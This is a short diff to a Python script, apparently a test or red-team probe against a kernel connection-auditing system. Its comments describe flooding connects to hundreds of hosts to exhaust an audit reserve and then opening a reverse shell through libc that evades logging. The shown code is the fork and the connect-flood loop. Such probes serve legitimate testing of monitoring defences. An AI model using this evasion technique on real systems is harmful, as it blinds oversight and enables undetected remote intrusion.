@@ -1,11 +1,13 @@
-# Fill the kernel's connect reserve from a child with connects to 450
-# distinct hosts, then the payload: a connect out made through libc (no
-# audit event of it), and a shell fed over a pipe (its stdio no socket:
-# only the connect before it tells a reverse shell).
+# Fill the kernel's connect reserve from a child with connects to N
+# distinct hosts (the first argument; 450 past native's reserve), then
+# the payload: a connect out made through libc (no audit event of it),
+# and a shell fed over a pipe (its stdio no socket: only the connect
+# before it tells a reverse shell).
 import ctypes, os, socket, struct, subprocess, sys
+n = int(sys.argv[1]) if len(sys.argv) > 1 else 450
 pid = os.fork()
 if pid == 0:
-    for i in range(450):
+    for i in range(n):
         s = socket.socket()
         s.settimeout(0.05)
         try:
